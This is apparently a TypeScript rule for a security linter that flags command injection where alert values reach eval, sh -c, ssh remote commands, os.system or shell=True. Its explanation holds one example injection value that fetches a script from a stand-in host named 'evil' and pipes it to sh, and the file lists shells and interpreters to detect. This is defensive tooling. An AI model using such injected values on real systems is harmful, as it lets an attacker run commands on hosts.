import type { Command } from '../shell/model';
import type { RawFinding, Rule } from '../types';
import { at, spanTainted, wordTainted } from './util';

const SHELLS = /^(sh|bash|dash|zsh|ksh|ash|busybox)$/;
const INTERPRETERS: Record<string, string> = {
  python: '-c',
  python3: '-c',
  python2: '-c',
  perl: '-e',
  ruby: '-e',
  node: '-e',
  php: '-r',
};
/** ssh options that take a value, so the host is found after them. */
const SSH_VALUE = new Set([
  '-b',
  '-c',
  '-D',
  '-E',
  '-e',
  '-F',
  '-I',
  '-i',
  '-J',
  '-L',
  '-l',
  '-m',
  '-O',
  '-o',
  '-p',
  '-Q',
  '-R',
  '-S',
  '-W',
  '-w',
]);

/** An alert value that becomes code: eval, sh -c, ssh's remote command, os.system, shell=True. */
export const SEC002: Rule = {
  id: 'SEC002',
  name: 'alert-input-exec',
  group: 'SEC',
  severity: 'error',
  summary:
    'Alert value reaches eval, sh -c, an ssh remote command, os.system or shell=True: command injection',
  explain: `Whatever reaches eval, "sh -c", the remote command of ssh, awk/perl/python program text, os.system or
subprocess with shell=True is parsed as code. If any part of it comes from an alert, the alert's author runs
commands on the host, often as root:

    eval "restart_$NP_SERVICE"                 # NP_SERVICE='x; curl evil | sh'
    ssh "$host" "tail -n 50 $NP_LOGFILE"       # the remote shell parses NP_LOGFILE

Pass alert values as arguments, never as code: validate them against a pattern or enum in the manifest, use
a case statement to map them to fixed commands, or use subprocess with a list and shell=False.`,
  fix: 'none',
  languages: ['bash', 'sh', 'python'],
  check(ctx) {
    const out: RawFinding[] = [];
    if (ctx.shell) {
      const shell = ctx.shell;
      for (let cmdIndex = 0; cmdIndex < shell.commands.length; cmdIndex++) {
        const cmd = shell.commands[cmdIndex]!;
        const reason = injectionSite(cmd, shell);
        if (reason)
          out.push(at(cmd.node, `alert value reaches ${reason}: it is run as code (command injection)`));
      }
    }
    if (ctx.python) {
      const py = ctx.python;
      for (let callIndex = 0; callIndex < py.calls.length; callIndex++) {
        const call = py.calls[callIndex]!;
        const first = call.args[0];
        if (!first) continue;
        const shellTrue = call.kwargs.get('shell');
        const isShell =
          /^(os\.system|os\.popen|commands\.getoutput|commands\.getstatusoutput|subprocess\.getoutput|subprocess\.getstatusoutput|eval|exec)$/.test(
            call.func,
          ) ||
          (/^subprocess\.(call|run|Popen|check_call|check_output)$/.test(call.func) &&
            shellTrue !== undefined &&
            py.src(shellTrue) === 'True');
        if (isShell && py.carriesInput(first))
          out.push(
            at(call.node, `alert value reaches ${call.func}(): it is run as code (command injection)`),
          );
      }
    }
    return out;
  },
};

function injectionSite(
  cmd: Command,
  shell: NonNullable<import('../types').RuleContext['shell']>,
): string | null {
  const name = cmd.name;
  // every site below is a tainted argument of this command
  if (!name || !spanTainted(shell, cmd.node.start, cmd.node.end)) return null;
  const args = cmd.args;
  const lits = args.map((w) => w.literal);
  if (name === 'eval' && args.some((w) => wordTainted(shell, w))) return 'eval';
  if ((name === 'source' || name === '.') && args[0] && wordTainted(shell, args[0]))
    return `${name} (the file to run)`;
  // `sh -c STRING`, also inside docker exec / kubectl exec / xargs (only where a -c is given at all)
  for (let i = lits.includes('-c') ? -1 : args.length; i < args.length; i++) {
    const word = i === -1 ? name : lits[i];
    if (word && SHELLS.test(word.slice(word.lastIndexOf('/') + 1))) {
      const c = lits.indexOf('-c', i + 1);
      if (c !== -1 && args[c + 1] && wordTainted(shell, args[c + 1]!)) return `${word} -c`;
    }
  }
  if (name === 'su') {
    const c = lits.indexOf('-c');
    if (c !== -1 && args[c + 1] && wordTainted(shell, args[c + 1]!)) return 'su -c';
  }
  const flag = INTERPRETERS[name];
  if (flag) {
    const c = lits.indexOf(flag);
    if (c !== -1 && args[c + 1] && wordTainted(shell, args[c + 1]!)) return `${name} ${flag}`;
  }
  if (name === 'awk' || name === 'gawk' || name === 'mawk' || name === 'sed') {
    let i = 0;
    while (i < args.length && (lits[i] ?? '').startsWith('-'))
      i += lits[i] === '-v' || lits[i] === '-F' ? 2 : 1;
    const program = args[i];
    if (program && program.literal === null && wordTainted(shell, program)) return `the ${name} program text`;
  }
  if (name === 'ssh') {
    let i = 0;
    while (i < args.length) {
      const a = lits[i];
      if (a === null || a === undefined || !a.startsWith('-')) break;
      i += SSH_VALUE.has(a) ? 2 : 1;
    }
    const remote = args.slice(i + 1);
    if (remote.some((w) => wordTainted(shell, w))) return 'the remote command of ssh';
  }
  return null;
}
